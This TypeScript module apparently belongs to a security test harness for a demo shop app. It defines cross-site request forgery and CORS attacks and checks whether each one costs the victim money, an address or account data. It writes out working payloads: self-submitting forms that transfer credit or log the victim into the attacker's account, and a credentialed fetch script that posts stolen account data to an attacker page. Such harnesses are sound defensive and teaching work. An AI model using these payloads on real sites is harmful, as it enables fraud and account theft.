import type { App } from '../run/app-process.ts';
import { origins } from '../run/hosts.ts';
import type { Attack, Outcome, Place } from './attack.ts';
import { mallory, signUp } from './person.ts';
import { answerIn, fallFor, logIn, press, walk } from './walk.ts';

const formTo = (path: string, fields: Readonly<Record<string, string>>): string => {
  const inputs = Object.entries(fields).map(([name, value]) => `<input name="${name}" value="${value}">`);
  return `<form method="post" action="${origins.shop}/${path}">${inputs.join('')}</form><script>document.forms[0].submit()</script>`;
};
const transfer = formTo('transfer', { to: mallory.email, amount: '50' });
const foreignLogIn = formTo('login', { email: mallory.email, password: mallory.password });
const read = `<script>
fetch('${origins.shop}/api/account', { credentials: 'include' })
  .then((answer) => answer.text()).catch(String)
  .then((body) => fetch('/stolen', { method: 'POST', body }))
</script>`;

const shared = { code: [{ file: 'app.ts' }] } as const;

const transferFrom = (endpoint: string, from: string, part: Place['part']): Place => ({
  ...{ group: 'CSRF', endpoint, part, ...shared },
  async fire(app, range, payload) {
    const victim = await signUp(app);
    await signUp(app, mallory);
    return walk(app, range, async ({ page, hosts }) => {
      await logIn(page, victim);
      hosts.publish(from, payload);
      await fallFor(page, from);
      return { answer: await answerIn(page), ...lossIn(await app.customers(), victim.email) };
    });
  },
});

const fromSubdomain = transferFrom('POST transfer, from a subdomain', origins.blog, 'csrf');
const fromAnotherSite = transferFrom('POST transfer, from another site', origins.evil, 'csrf and cookie');

const logInFromAnotherSite: Place = {
  ...{ group: 'CSRF', endpoint: 'POST login, from another site', part: 'csrf', ...shared },
  async fire(app, range, payload) {
    await signUp(app, mallory);
    return walk(app, range, async ({ page, hosts }) => {
      hosts.publish(origins.evil, payload);
      await fallFor(page, origins.evil);
      const answer = await answerIn(page);
      await page.goto(`${origins.shop}/account`);
      // Whoever is asked to log in notices. Whoever finds an account takes it for their own.
      if ((await page.locator('#address').count()) > 0) {
        await page.fill('input[name=address]', 'Pier 9');
        await press(page, '#address button');
      }
      const own = (await app.customers()).find(({ email }) => email === mallory.email);
      return { answer, ...(own?.address && { lost: "the victim's address saved to a stranger's account" }) };
    });
  },
};

const readBySubdomain: Place = {
  ...{ group: 'CORS', endpoint: 'GET api/account, from a subdomain', part: 'cors', ...shared },
  async fire(app, range, payload) {
    const victim = await signUp(app);
    return walk(app, range, async ({ page, hosts }) => {
      await logIn(page, victim);
      hosts.publish(origins.blog, payload);
      const told = page.waitForResponse(`${origins.blog}/stolen`, { timeout: 4_000 }).catch(() => {});
      await page.goto(origins.blog);
      await told;
      const stolen = hosts.received.some(({ body }) => body.includes(victim.email));
      return {
        answer: stolen ? 'read by the page' : 'not readable',
        ...(stolen && { lost: 'account read by a stranger' }),
      };
    });
  },
};

export const crossSitePlaces: readonly Place[] = [
  fromSubdomain,
  { ...fromAnotherSite, slow: true },
  { ...logInFromAnotherSite, slow: true },
  { ...readBySubdomain, slow: true },
];

/** What a page can do with the browser of somebody who opens it. */
export function crossSiteAttacks(): Attack[] {
  const [first, second, third, fourth] = crossSitePlaces as [Place, Place, Place, Place];
  const own = { guide: true, kind: 'cross-site' };
  return [
    { ...first, ...own, name: 'a form that sends itself', payload: transfer },
    { ...second, ...own, name: 'a form that sends itself', payload: transfer },
    { ...third, ...own, name: "log-in to the attacker's account", payload: foreignLogIn },
    { ...fourth, ...own, name: 'fetch with credentials', payload: read },
  ];
}

function lossIn(customers: Awaited<ReturnType<App['customers']>>, victim: string): Pick<Outcome, 'lost'> {
  const row = customers.find(({ email }) => email === victim);
  if (row && row.credit !== 100) return { lost: `${100 - row.credit} euros of credit given away` };
  return row?.address ? { lost: "the victim's address changed" } : {};
}
